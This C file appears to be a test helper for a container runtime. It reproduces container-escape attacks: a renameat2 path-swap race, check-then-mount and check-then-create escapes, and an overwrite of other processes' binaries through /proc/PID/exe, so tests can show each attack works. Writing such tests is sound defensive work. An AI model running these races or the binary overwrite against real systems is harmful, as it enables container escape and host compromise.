/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What an attacker would run, and the steps of runtimes that had the weakness, so that each attack is seen to work.
 * Statically linked: it also runs inside containers.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define TRIES 200000

/* Exchanges two names until it is killed or alone. */
static int exchange(const char *a, const char *b)
{
	(void) prctl(PR_SET_PDEATHSIG, SIGKILL);
	(void) puts("ready");
	(void) fflush(stdout);
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return 1;
}

/* Whether the path, resolved now, is below root: the check of the weak runtimes, true a moment ago. */
static int looks_fine(const char *root, const char *path)
{
	char resolved[PATH_MAX];

	return realpath(path, resolved) != NULL && strncmp(resolved, root, strlen(root)) == 0;
}

/* A bind mount whose target is checked and then named again. Says whether `victim` was mounted on. */
static int weak_mount(const char *root, const char *target, const char *source, const char *victim)
{
	struct stat before, after;

	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 || stat(victim, &before) < 0)
		return 2;
	for (int i = 0; i < TRIES; i++) {
		if (!looks_fine(root, target) || mount(source, target, NULL, MS_BIND, NULL) < 0)
			continue;
		if (stat(victim, &after) == 0 && after.st_ino != before.st_ino)
			return 0;
		(void) umount2(target, MNT_DETACH);
	}
	return 1;
}

/* The same for a file that is made as the target of a mount. */
static int weak_make(const char *root, const char *folder, const char *name, const char *victim)
{
	char path[PATH_MAX], escaped[PATH_MAX];

	(void) snprintf(path, sizeof(path), "%s/%s", folder, name);
	(void) snprintf(escaped, sizeof(escaped), "%s/%s", victim, name);
	for (int i = 0; i < TRIES; i++) {
		int fd = looks_fine(root, folder) ? open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644) : -1;

		if (fd >= 0)
			close(fd);
		if (access(escaped, F_OK) == 0)
			return unlink(escaped);
	}
	return 1;
}

/* Opens the programs of all processes but ours and writes to them when they are no longer executed. */
static int overwrite_programs(const char *own_name)
{
	char path[64], name[PATH_MAX];
	int opened = 0, fd;

	(void) puts("ready");
	(void) fflush(stdout);
	for (int i = 0; i < TRIES && opened == 0; i++) {
		DIR *folder = opendir("/proc");

		for (struct dirent *entry = readdir(folder); entry != NULL; entry = readdir(folder)) {
			ssize_t size;

			(void) snprintf(path, sizeof(path), "/proc/%.20s/exe", entry->d_name);
			size = atoi(entry->d_name) > 0 ? readlink(path, name, sizeof(name) - 1) : -1;
			if (size <= 0)
				continue;
			name[size] = '\0';
			fd = strstr(name, own_name) == NULL && strstr(name, "/bin/busybox") == NULL ? open(path, O_RDONLY | O_CLOEXEC) : -1;
			if (fd < 0)
				continue;
			opened++;
			(void) snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			for (int k = 0; k < 1000; k++) {
				int writable = open(path, O_WRONLY | O_CLOEXEC);

				if (writable >= 0 && write(writable, "#!overwritten\n", 14) == 14)
					return puts("overwritten") < 0;
				if (errno != ETXTBSY)
					break;
				(void) usleep(1000);
			}
			(void) printf("caught %s: %s\n", name, strerror(errno));
		}
		(void) closedir(folder);
	}
	return opened > 0 ? 3 : 1;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3]);
	if (argc == 6 && strcmp(argv[1], "weak-mount") == 0)
		return weak_mount(argv[2], argv[3], argv[4], argv[5]);
	if (argc == 6 && strcmp(argv[1], "weak-make") == 0)
		return weak_make(argv[2], argv[3], argv[4], argv[5]);
	if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
		return overwrite_programs(argv[2]);
	return 64;
}
